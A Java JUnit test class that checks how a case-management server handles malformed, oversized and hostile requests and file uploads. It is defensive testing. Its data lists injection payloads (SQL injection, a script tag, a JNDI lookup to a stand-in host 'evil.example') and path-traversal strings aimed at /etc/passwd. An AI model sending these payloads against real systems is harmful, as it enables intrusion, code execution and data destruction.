package io.relata.server;

import com.fasterxml.jackson.databind.JsonNode;
import io.relata.app.access.Role;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What the server makes of bad input, through the real server: malformed, mistyped, oversized and hostile requests
 * are each a precise 4xx problem, never a 500, and nothing is stored other than as sent; uploads are kept under the
 * server's own names, limited in size, and loaded with every line accounted for.
 */
class ServerInputTest {
    static final long MAX_JSON = 4096, MAX_UPLOAD = 512 * 1024;
    static final List<String> HOSTILE = List.of("' OR 1=1 --", "\"; DROP TABLE record; --", "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}", "%s%s%s%n", "../../etc/passwd", "x".repeat(999), "x".repeat(5000),
            "\u0000", "a\u0000b", "\u0007bell", "line\nbreak", "\u001B[31mred", "\uFEFFbom", "Дмитрий Иванов",
            "王小明", "محمد عبد الله", "🙂🙃", "null", "{\"json\":true}", "*", "%", "_", "\\", "Robert'); --");
    @TempDir
    static Path dir;
    static TestServer t;

    @BeforeAll
    static void start() throws Exception {
        t = new TestServer(dir, new ServerConfig("127.0.0.1", 0, null, ServerConfig.SecureCookies.AUTO, MAX_JSON, MAX_UPLOAD));
    }

    @AfterAll
    static void stop() {
        t.close();
    }

    private static void assertProblem(TestServer.Response res, int status) {
        assertThat(res.status()).as("%s", res).isEqualTo(status);
        assertThat(res.contentType()).as("%s", res).startsWith("application/problem+json");
        JsonNode p = res.json();
        assertThat(p.path("status").asInt()).isEqualTo(status);
        assertThat(p.path("title").asText()).isNotBlank();
        assertThat(p.path("detail").asText()).isNotBlank();
    }

    private TestServer.Response send(Role role, String method, String path, String type, String body) {
        HttpRequest.Builder b = t.as(role, path);
        if (type != null) b.header("Content-Type", type);
        return t.send(b.method(method, body == null ? HttpRequest.BodyPublishers.noBody()
                : HttpRequest.BodyPublishers.ofString(body)).build());
    }

    private static String q(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }

    // ------------------------------------------------------------------------------------------------ bodies

    @Test
    void a_body_that_is_not_one_json_object_is_a_400_that_says_why() {
        for (String body : List.of("{\"name\":", "{\"name\":\"x\"} {\"name\":\"y\"}", "{\"name\":\"x\",}", "[{\"name\":\"x\"}]",
                "\"x\"", "42", "null", "", "{'name':'x'}", "{\"name\":\"a\",\"name\":\"b\"}", "\u0000",
                "{\"name\":\"x\"}garbage", "{\"name\":" + "[".repeat(2000) + "]".repeat(2000) + "}",
                "{\"name\":1" + "0".repeat(2000) + "}")) {
            TestServer.Response res = send(Role.ANALYST, "POST", "/api/cases", "application/json", body);
            assertProblem(res, 400);
        }
        assertThat(send(Role.ANALYST, "POST", "/api/cases", "application/json", "[1]").json().path("detail").asText())
                .contains("JSON object");
        assertThat(send(Role.ANALYST, "POST", "/api/cases", "application/json", "{\"name\":\"a\",\"name\":\"b\"}")
                .json().path("detail").asText()).contains("Duplicate field");
    }

    @Test
    void a_field_of_the_wrong_type_is_a_400_naming_it() {
        for (String body : List.of("{\"name\":42}", "{\"name\":[\"x\"]}", "{\"name\":{\"x\":1}}", "{\"name\":true}",
                "{\"name\":\"   \"}", "{}", "{\"name\":null}")) {
            TestServer.Response res = send(Role.ANALYST, "POST", "/api/cases", "application/json", body);
            assertProblem(res, 400);
            assertThat(res.json().path("detail").asText()).contains("'name'");
        }
        TestServer.Response hops = t.post(Role.ANALYST, "/api/cases/" + t.caseId + "/watches", "{\"entity\":\"S:A\",\"hops\":\"2\"}");
        assertProblem(hops, 400);
        TestServer.Response same = t.post(Role.ANALYST, "/api/review/decisions",
                "{\"first\":\"S:A\",\"second\":\"S:C\",\"same\":\"yes\",\"reason\":\"r\"}");
        assertProblem(same, 400);
    }

    @Test
    void a_body_of_another_media_type_is_a_415() {
        for (String type : new String[] {"text/plain", "application/x-www-form-urlencoded", "application/jsonx",
                "multipart/form-data; boundary=x", "application/xml"}) {
            assertProblem(send(Role.ANALYST, "POST", "/api/cases", type, "{\"name\":\"x\"}"), 415);
        }
        assertProblem(send(Role.ANALYST, "POST", "/api/cases", null, "{\"name\":\"x\"}"), 415);
        // parameters and case are fine
        TestServer.Response ok = send(Role.ANALYST, "POST", "/api/cases", "Application/JSON; charset=utf-8",
                "{\"name\":\"media type with a charset\"}");
        assertThat(ok.status()).as("%s", ok).isEqualTo(201);
    }

    @Test
    void a_body_over_the_limit_is_a_413_with_or_without_a_length() {
        String big = "{\"name\":\"" + "x".repeat((int) MAX_JSON) + "\"}";
        assertProblem(send(Role.ANALYST, "POST", "/api/cases", "application/json", big), 413);
        // sent in chunks, without a Content-Length: cut off at the limit all the same
        HttpRequest chunked = t.as(Role.ANALYST, "/api/cases").header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(big.getBytes(StandardCharsets.UTF_8))))
                .build();
        assertProblem(t.send(chunked), 413);
        assertThat(t.get(Role.ANALYST, "/api/cases?limit=500").body()).doesNotContain("xxxxxxxxxx");
    }

    // ------------------------------------------------------------------------------------------------ paths and queries

    @Test
    void a_path_id_that_is_not_a_positive_whole_number_is_a_400() {
        for (String id : List.of("abc", "-1", "0", "1.5", "99999999999999999999", "1e3", "%20", "0x10", "1'%20OR%201=1")) {
            assertProblem(t.get(Role.ANALYST, "/api/entities/" + id), 400);
        }
        assertProblem(t.get(Role.ADMIN, "/api/loads/not-a-uuid"), 400);
        assertProblem(t.get(Role.ANALYST, "/api/cases/abc/alerts"), 400);
    }

    @Test
    void an_unknown_route_is_a_404_problem_and_a_wrong_method_is_not_a_500() {
        for (String path : List.of("/api/nothing", "/api", "/api/entities", "/../etc/passwd", "/api/entities/1/whatever",
                "/%2e%2e/%2e%2e/etc/passwd")) {
            TestServer.Response res = t.get(Role.ANALYST, path);
            assertThat(res.status()).as("%s %s", path, res).isIn(400, 404);
            assertThat(res.contentType()).as(path).startsWith("application/problem+json");
        }
        assertProblem(t.get(Role.ANALYST, "/api/nothing"), 404);
        TestServer.Response patch = send(Role.ANALYST, "PATCH", "/api/cases", "application/json", "{}");
        assertThat(patch.status()).as("%s", patch).isIn(404, 405);
        assertThat(patch.contentType()).startsWith("application/problem+json");
    }

    @Test
    void an_unknown_or_malformed_query_value_is_a_400_naming_the_parameter() {
        String network = "/api/entities/" + t.subject + "/network";
        for (String[] c : new String[][] {
                {network + "?types=NOPE", "NOPE"}, {network + "?types=SHARED_PHONE,X", "'X'"}, {network + "?hops=9", "hops"},
                {network + "?hops=two", "hops"}, {network + "?min_strength=2", "min_strength"},
                {network + "?min_strength=NaN", "min_strength"}, {network + "?limit=0", "limit"},
                {"/api/leads?status=NOPE", "NOPE"}, {"/api/leads?limit=-1", "limit"}, {"/api/leads?offset=-5", "offset"},
                {"/api/leads?limit=99999999999", "limit"}, {"/api/search?name=Anna&limit=abc", "limit"},
                {"/api/search?name=Anna&offset=1000", "offset"}, {"/api/search", "at least one"},
                {"/api/search?identifier=nocolon", "TYPE:VALUE"}, {"/api/paths?from=" + t.subject, "to"},
                {"/api/cases/" + t.caseId + "/alerts?status=LATER", "LATER"}}) {
            TestServer.Response res = t.get(Role.ANALYST, c[0]);
            assertProblem(res, 400);
            assertThat(res.json().path("detail").asText()).as(c[0]).contains(c[1]);
        }
        assertProblem(t.get(Role.AUDITOR, "/api/audit/entries?object=entity:1&format=xml"), 400);
        assertProblem(t.get(Role.AUDITOR, "/api/audit/entries?object=entity:1&from=yesterday"), 400);
        assertProblem(t.get(Role.AUDITOR, "/api/audit/entries?object=entity:1&actor=ana"), 400);
        TestServer.Response badCase = t.send(t.as(Role.ANALYST, "/api/entities/" + t.subject).setHeader("X-Relata-Case", "one").GET().build());
        assertProblem(badCase, 400);
    }

    @Test
    void hostile_text_in_every_search_parameter_is_a_2xx_or_a_precise_4xx_never_a_5xx() {
        List<String> wrong = new ArrayList<>();
        for (String param : List.of("name", "dob", "phone", "email", "identifier", "address")) {
            for (String value : HOSTILE) {
                String v = param.equals("identifier") ? "PASSPORT:" + value : value;
                TestServer.Response res = t.get(Role.ANALYST, "/api/search?" + param + "=" + q(v));
                int expected = control(v) || v.strip().length() > 1000 ? 400 : 200;
                if (res.status() != expected) {
                    wrong.add(param + "=" + value.substring(0, Math.min(value.length(), 20)) + ": " + res);
                }
                if (res.status() >= 400) assertThat(res.contentType()).startsWith("application/problem+json");
            }
        }
        assertThat(wrong).isEmpty();
        // what a client library would not even send: malformed escapes, raw control characters, invalid UTF-8
        for (String target : List.of("/api/search?name=%ZZ%", "/api/search?name=%", "/api/search?name=%C3%28",
                "/api/search?name=%FF%FE", "/api/search?name=a%00b", "/api/search?name=\u0001x", "/api/search?name=Anna Kowalski",
                "/api/entities/%00", "/api/entities/1%2F..%2F..%2Fetc", "/api/%2e%2e/%2e%2e/etc/passwd", "/../../etc/passwd",
                "/api/search?" + "name=x&".repeat(2000))) {
            TestServer.Response res = t.raw(Role.ANALYST, target);
            assertThat(res.status()).as("%s: %s", target, res).isBetween(200, 499);
            if (res.status() >= 400) assertThat(res.contentType()).as("%s: %s", target, res).startsWith("application/problem+json");
        }
    }

    /** A control character other than tab, line feed and carriage return: refused wherever text is taken. */
    private static boolean control(String v) {
        return v.chars().anyMatch(ch -> ch < 0x20 && ch != '\t' && ch != '\n' && ch != '\r' || ch == 0x7F);
    }

    /** JSON text with everything outside printable ASCII escaped, so that even a lone surrogate arrives as sent. */
    private static String escaped(String name, String description) {
        StringBuilder b = new StringBuilder("{");
        String[][] fields = {{"name", name}, {"description", description}};
        for (int f = 0; f < fields.length; f++) {
            if (f > 0) b.append(',');
            b.append('"').append(fields[f][0]).append("\":\"");
            for (char c : fields[f][1].toCharArray()) {
                if (c >= 0x20 && c < 0x7F && c != '"' && c != '\\') b.append(c);
                else b.append(String.format("\\u%04x", (int) c));
            }
            b.append('"');
        }
        return b.append('}').toString();
    }

    @Test
    void hostile_text_in_bodies_is_stored_exactly_as_sent_or_refused_with_a_400() {
        List<String> wrong = new ArrayList<>();
        List<String> values = new ArrayList<>(HOSTILE);
        values.add("\uD800 lone surrogate");
        values.add("\u007F delete");
        for (String value : values) {
            String name = "case " + value;
            TestServer.Response res = t.post(Role.ANALYST, "/api/cases", escaped(name, value));
            if (escaped(name, value).length() > MAX_JSON) {
                if (res.status() != 413) wrong.add(value + ": " + res);
                continue;
            }
            if (control(value) || value.startsWith("\uD800") || name.length() > 200) {
                if (res.status() != 400) wrong.add(value + ": " + res);
                continue;
            }
            if (res.status() != 201) {
                wrong.add(value + ": " + res);
                continue;
            }
            long id = res.json().path("id").asLong();
            JsonNode back = find(id);
            if (back == null || !back.path("name").asText().equals(name.strip()) || !back.path("description").asText().equals(value.strip())) {
                wrong.add(value + ": read back as " + back);
            }
        }
        assertThat(wrong).isEmpty();
        // the same name twice is a conflict, not a store failure
        assertProblem(t.post(Role.ANALYST, "/api/cases", "{\"name\":\"case ' OR 1=1 --\"}"), 409);
        // notes and reasons: a lead disposition's note with quotes and scripts is kept as sent, a NUL refused
        assertProblem(t.post(Role.ANALYST, "/api/review/decisions",
                "{\"first\":\"S:A\",\"second\":\"S:C\",\"same\":false,\"reason\":\"a\\u0000b\"}"), 400);
    }

    private JsonNode find(long caseId) {
        for (JsonNode c : t.get(Role.ANALYST, "/api/cases?limit=500").json().path("items")) {
            if (c.path("id").asLong() == caseId) return c;
        }
        return null;
    }

    @Test
    void a_missing_case_or_user_is_a_404_not_a_store_failure() {
        assertProblem(t.post(Role.SUPERVISOR, "/api/cases/999999/members", "{\"username\":\"analyst\"}"), 404);
        assertProblem(t.post(Role.SUPERVISOR, "/api/cases/" + t.caseId + "/members", "{\"username\":\"nobody\"}"), 404);
        assertProblem(t.send(t.as(Role.ADMIN, "/api/users/nobody").header("Content-Type", "application/json")
                .PUT(HttpRequest.BodyPublishers.ofString("{\"disabled\":true}")).build()), 404);
        for (String name : List.of("Not%20a%20name", "a%00b", "%27%20OR%201=1", "x")) {
            assertProblem(t.send(t.as(Role.ADMIN, "/api/users/" + name).header("Content-Type", "application/json")
                    .PUT(HttpRequest.BodyPublishers.ofString("{\"disabled\":true}")).build()), 400);
        }
        assertProblem(t.post(Role.ANALYST, "/api/leads/999999/disposition", "{\"status\":\"REVIEWED\",\"note\":\"n\"}"), 404);
    }

    // ------------------------------------------------------------------------------------------------ uploads

    @Test
    void a_file_name_that_is_a_path_or_holds_control_characters_is_a_400_and_nothing_is_written() throws IOException {
        String line = TestServer.person("T1", "Tina", "Traversal", "1991-01-01", "") + "\n";
        for (String name : List.of("../../etc/passwd", "../x.jsonl", "..", ".", "/etc/passwd", "/tmp/x.jsonl",
                "C:\\Windows\\x.jsonl", "..\\..\\x.jsonl", "dir/x.jsonl", "x.jsonl\u0000.txt", "a\nb.jsonl", "a\rb.jsonl",
                " x.jsonl", "x.jsonl ", "c:x.jsonl", "\u001Bx.jsonl", "x".repeat(300) + ".jsonl", "")) {
            TestServer.Response res = t.upload("S", name, line);
            assertProblem(res, 400);
        }
        assertProblem(t.upload("../S", "x.jsonl", line), 400);
        assertThat(Files.exists(dir.resolve("etc"))).isFalse();
        try (Stream<Path> files = Files.list(t.uploads)) {
            assertThat(files.filter(f -> !f.getFileName().toString().matches("[0-9a-f-]{36}\\.jsonl"))).isEmpty();
        }
    }

    @Test
    void an_upload_over_the_limit_is_a_413_and_leaves_no_file() throws IOException {
        String big = (TestServer.person("B1", "Big", "File", "1990-01-01", "") + "\n").repeat((int) (MAX_UPLOAD / 50));
        assertThat(big.length()).isGreaterThan((int) MAX_UPLOAD);
        assertProblem(t.upload("S", "big.jsonl", big), 413);
        HttpRequest chunked = t.as(Role.ADMIN, "/api/loads?source=S&filename=big.jsonl")
                .header("Content-Type", "application/x-ndjson")
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(big.getBytes(StandardCharsets.UTF_8))))
                .build();
        assertProblem(t.send(chunked), 413);
        assertThat(t.get(Role.ADMIN, "/api/loads").json().path("items").toString()).contains("FAILED");
        try (Stream<Path> files = Files.list(t.uploads)) {
            assertThat(files).isEmpty();
        }
        assertProblem(send(Role.ADMIN, "POST", "/api/loads?source=S&filename=x.csv", "text/csv", "id,name\n1,x\n"), 415);
        assertProblem(send(Role.ADMIN, "POST", "/api/loads?source=S&filename=x.jsonl", "application/json", "{}"), 415);
        assertProblem(t.upload("S", "empty.jsonl", ""), 400);
    }

    @Test
    void a_valid_upload_runs_to_done_and_its_records_can_be_found() {
        String extract = TestServer.person("U1", "Ulrike", "Uploaded", "1966-06-06", "\"phones\":[\"(312) 555-0142\"]") + "\n"
                + TestServer.person("U2", "Ulrike", "Uploaded", "1966-06-06", "\"emails\":[\"ulrike@example.org\"]") + "\r\n";
        TestServer.Response res = t.upload("S", "people.jsonl", extract);
        assertThat(res.status()).as("%s", res).isEqualTo(202);
        String id = res.json().path("id").asText();
        JsonNode done = t.awaitLoad(id);
        assertThat(done.path("state").asText()).as("%s", done).isEqualTo("DONE");
        assertThat(done.path("filename").asText()).isEqualTo("people.jsonl");
        assertThat(done.path("read").asLong()).isEqualTo(2);
        assertThat(done.path("accepted").asLong()).isEqualTo(2);
        assertThat(done.path("summary").path("added").asLong()).isEqualTo(2);
        assertThat(done.path("rejects")).isEmpty();
        assertThat(done.toString()).doesNotContain(t.uploads.toString());
        JsonNode hits = t.get(Role.ANALYST, "/api/search?name=Ulrike+Uploaded").json();
        assertThat(hits.path("items")).isNotEmpty();
        assertThat(hits.path("items").get(0).path("record").asText()).startsWith("S:U");
        assertThat(t.uploads.resolve(id + ".jsonl")).doesNotExist(); // loaded, then deleted
        List<String> trail = t.actions("load:" + id);
        assertThat(trail.get(0)).isEqualTo("admin load.start ALLOWED 0");
        assertThat(trail).contains("admin load.status ALLOWED 1", "admin load.finish ALLOWED 2");
    }

    @Test
    void a_load_of_several_batches_runs_between_requests_that_keep_being_answered() throws Exception {
        StringBuilder extract = new StringBuilder();
        int n = 3 * Loads.BATCH + 17;
        for (int i = 0; i < n; i++) {
            extract.append(TestServer.person("L" + i, "Given" + Integer.toString(i, 26), "Surname" + Integer.toString(i * 7, 26),
                    (1930 + i % 70) + "-0" + (1 + i % 9) + "-1" + (i % 9), "")).append('\n');
        }
        assertThat(extract.length()).isLessThan((int) MAX_UPLOAD);
        String id = t.upload("S", "batches.jsonl", extract.toString()).json().path("id").asText();
        List<String> wrong = java.util.Collections.synchronizedList(new ArrayList<>());
        java.util.concurrent.atomic.AtomicBoolean done = new java.util.concurrent.atomic.AtomicBoolean();
        List<Thread> readers = new ArrayList<>();
        for (int k = 0; k < 3; k++) {
            Thread reader = new Thread(() -> {
                while (!done.get()) {
                    for (String path : List.of("/api/search?name=Anna+Kowalski", "/api/entities/" + t.subject,
                            "/api/cases/" + t.caseId + "/subjects")) {
                        TestServer.Response res = t.get(Role.ANALYST, path);
                        if (res.status() != 200) wrong.add(path + ": " + res);
                    }
                }
            });
            reader.start();
            readers.add(reader);
        }
        JsonNode status;
        try {
            status = t.awaitLoad(id);
        } finally {
            done.set(true);
            for (Thread r : readers) r.join();
        }
        assertThat(wrong).isEmpty();
        assertThat(status.path("state").asText()).as("%s", status).isEqualTo("DONE");
        assertThat(status.path("read").asLong()).isEqualTo(n);
        assertThat(status.path("accepted").asLong()).isEqualTo(n);
        assertThat(t.get(Role.ANALYST, "/api/search?name=Given" + Integer.toString(n - 1, 26) + "+Surname"
                + Integer.toString((n - 1) * 7, 26)).json().path("items")).isNotEmpty();
    }

    @Test
    void an_upload_with_bad_lines_reports_each_with_line_field_and_reason() {
        String extract = String.join("\n",
                TestServer.person("V1", "Vera", "Valid", "1970-01-01", ""),
                "{\"source\":\"S\",\"id\":\"V2\",\"names\":\"Vera\"}",
                "not json at all",
                "",
                TestServer.person("V3", "Vito", "Valid", "1971-01-01", "").replace("\"source\":\"S\"", "\"source\":\"OTHER\""),
                "{\"source\":\"S\"}",
                TestServer.person("V4", "Vince", "Valid", "1972-01-01", "")) + "\n";
        String id = t.upload("S", "mixed.jsonl", extract).json().path("id").asText();
        JsonNode done = t.awaitLoad(id);
        assertThat(done.path("state").asText()).isEqualTo("DONE");
        assertThat(done.path("read").asLong()).isEqualTo(6)
                .isEqualTo(done.path("accepted").asLong() + done.path("rejected").asLong());
        assertThat(done.path("accepted").asLong()).isEqualTo(2);
        List<String> rejects = new ArrayList<>();
        for (JsonNode r : done.path("rejects")) {
            assertThat(r.path("file").asText()).isEqualTo("mixed.jsonl");
            assertThat(r.path("reason").asText()).isNotBlank();
            rejects.add(r.path("line").asLong() + " " + r.path("field").asText());
        }
        assertThat(rejects).containsExactly("2 names", "3 (line)", "5 source", "6 id");
    }
}
